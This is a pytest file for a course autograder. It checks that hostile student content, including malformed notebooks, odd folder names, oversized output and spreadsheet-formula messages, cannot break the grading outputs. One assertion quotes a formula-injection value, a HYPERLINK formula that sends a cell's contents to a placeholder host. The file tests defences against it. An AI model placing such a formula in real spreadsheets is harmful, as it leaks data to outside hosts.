"""Text a student controls (notebook bytes, folder names, failure messages, printed output) breaks nothing of the
TA's: the run, its CSV files in a spreadsheet, the report, the feedback, the autograded notebooks.

All from the compact class (tests/pipeline/compact_class.py): its broken notebooks and oddly named folders
(refused at intake, no kernel) and three 01 samples, graded like the rest; each sample's score is checked
against autograder/expected/01_tensors.toml by test_pipeline.py.
"""

from __future__ import annotations

import html
import subprocess
import sys

import nbformat
import pytest

from autograder.grading.markers import METADATA_KEY
from autograder.grading.messages import MESSAGE_CHARS
from autograder.grading.report import read_results
from autograder.paths import REPO
from tests.conftest import spreadsheet_cells
from tests.pipeline.compact_class import BROKEN, FILTER, NAMES

pytestmark = [pytest.mark.pipeline, pytest.mark.skipif(bool(FILTER), reason="KIT_ASSIGNMENTS limits the class")]

REASONS = {"broken_deep_nesting": "nests deeper than", "broken_nan": "NaN is not a JSON value",
           "broken_key_twice": "appears twice in one object", "broken_surrogate": "not Unicode",
           "broken_utf16": "not UTF-8 text"}


def test_a_notebook_that_once_stopped_the_run_costs_only_its_student(graded):
    for student, *_ in BROKEN:
        rows = [r for r in graded.results if r["student_id"] == student]
        assert rows and all(r["status"] == "error" and float(r["score"]) == 0 for r in rows), student
        assert REASONS.get(student, "") in rows[0]["message"], rows[0]["message"]
    assert all(r["status"] == "passed" for r in graded.rows("reference").values()), "the class is still graded"


def test_folder_names_are_data_in_every_output(graded):
    rows = read_results(graded.out)  # the kit's own reader: the names as they were
    for student, assignment in NAMES:
        mine = [r for r in rows if (r.student_id, r.assignment) == (student, assignment)]
        assert mine and all(r.status == "error" for r in mine), (student, assignment)
    page = (graded.out / "report.html").read_text(encoding="utf-8")
    assert all(html.escape(assignment) in page for _, assignment in NAMES), "drawn and listed as text"
    for name in ("grades.csv", "results.csv", "timings.csv"):
        assert not any("formula" in row for row in spreadsheet_cells(graded.out / name)), name


def test_formula_messages_are_text_in_a_spreadsheet_and_the_original_to_the_kit(graded):
    rows = graded.rows("hostile_formula_messages")
    assert [r["message"][:2] for r in rows.values() if r["status"] != "passed"] == ["'=", "'@", "'+", "'+", "'-"]
    kit = {r.grade_id: r.message for r in read_results(graded.out) if r.student_id == "hostile_formula_messages"}
    assert kit["test_matmul_flops"].startswith('=HYPERLINK("http://example.invalid/grade?id="&A2,')
    assert not any("formula" in row for row in spreadsheet_cells(graded.out / "results.csv"))


def test_an_enormous_message_is_capped_in_every_output(graded):
    row = graded.rows("hostile_huge_message")["test_matmul_flops"]
    assert len(row["message"]) <= MESSAGE_CHARS + 1 and "more characters)" in row["message"]
    feedback = graded.out / "feedback" / "hostile_huge_message" / "01_tensors" / "feedback.html"
    assert feedback.stat().st_size < 40_000
    assert graded.autograded("hostile_huge_message").stat().st_size < 2**20, "the reference's is about 80 KB"
    rebuilt = subprocess.run([sys.executable, "-m", "autograder.grading.class_report", str(graded.out)], cwd=REPO,
                             capture_output=True, text=True, timeout=300)
    assert rebuilt.returncode == 0, rebuilt.stderr[-2000:]


def test_loud_honest_code_keeps_its_markers(graded):
    nb = nbformat.read(graded.autograded("loud_but_correct"), as_version=4)
    tests = {c.metadata.nbgrader.grade_id: c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")}
    loud = tests["test_to_numpy_plain"]
    assert len("".join(o.get("text", "") for o in loud.outputs)) < 2**20, "what it printed was cut down"
    # 01's tests run in the judge, which records each device's result itself (no integrity marker to carry)
    assert set(loud.metadata[METADATA_KEY]["devices"]) >= {"cpu"}
    devices = {r["device"] for r in graded.results
               if (r["student_id"], r["grade_id"]) == ("loud_but_correct", "test_to_numpy_plain")}
    assert "cpu" in devices, "its device markers made their rows"
